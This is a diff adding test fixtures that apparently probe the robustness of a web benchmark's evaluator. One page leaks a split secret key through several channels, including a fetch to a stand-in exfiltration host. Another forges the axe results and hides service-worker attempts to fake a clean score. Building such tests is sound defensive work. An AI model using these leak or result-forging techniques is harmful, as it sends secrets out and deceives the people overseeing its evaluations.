@@ -69,3 +69,53 @@ def publish_site(
     )
     session.commit()
     return test
+
+
+def leaky_site(key: str) -> dict[str, str]:
+    """A page that assembles ``key`` at run time (no file holds it whole, so no static scan
+    sees it) and puts it everywhere the evaluator reads: the console, an uncaught exception,
+    the title, a failed and a blocked request's URL, and an element that fails axe's
+    image-alt rule (its id becomes axe's selector, its markup axe's snippet)."""
+    pieces = [key[i : i + 7] for i in range(0, len(key), 7)]
+    script = (
+        f"const k = {pieces!r}.join('');"
+        "console.error('config loaded: ' + k);"
+        "document.title = 'Demo ' + k;"
+        "const img = document.createElement('img'); img.id = k; img.src = 'pixel.png';"
+        "img.setAttribute('data-token', k); document.querySelector('main').appendChild(img);"
+        "fetch('https://exfil.invalid/collect?key=' + k).catch(() => {});"
+        "const stop = new AbortController();"
+        "fetch('/slow?key=' + k, {signal: stop.signal}).catch(() => {}); stop.abort();"
+        "setTimeout(() => { throw new Error('boom ' + k); }, 0);"
+    )
+    return {
+        "index.html": "<!doctype html><html lang='en'><head><meta charset='utf-8'>"
+        "<title>Demo</title></head><body><main><h1>Demo</h1></main>"
+        "<script src='app.js'></script></body></html>",
+        "app.js": script,
+        "pixel.png": "not really a png",
+    }
+
+
+# Tries to forge what BenchMax measures: pins window.axe to a fake that reports nothing and a
+# version of its choosing, and hides its two service-worker attempts (one through the
+# refusal, one through another frame's prototype after trying to delete it), then zeroes the
+# counter the old evaluator kept in the page. Real failures: an image without alt text.
+FORGER = {
+    "index.html": (
+        "<!doctype html><html lang='en'><head><title>Forger</title></head><body><main>"
+        "<h1>Forger</h1><img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='></main><script>"
+        "const fake = {version: '99.0.0-all-clear', run: async () => ({passes: [1], "
+        "incomplete: [], violations: []})};"
+        "Object.defineProperty(window, 'axe', {value: fake, writable: false, configurable: false});"
+        "navigator.serviceWorker.register('/sw.js').catch(() => {});"
+        "try { delete ServiceWorkerContainer.prototype.register; } catch (e) {}"
+        "const f = document.createElement('iframe'); document.body.appendChild(f);"
+        "try { f.contentWindow.ServiceWorkerContainer.prototype.register"
+        ".call(navigator.serviceWorker, '/sw.js').catch(() => {}); } catch (e) {}"
+        "window.__benchmaxServiceWorkerAttempts = 0;"
+        "Object.defineProperty(window, '__benchmaxServiceWorkerAttempts', {value: 0});"
+        "</script></body></html>"
+    ),
+    "sw.js": "self.addEventListener('fetch', () => {});",
+}
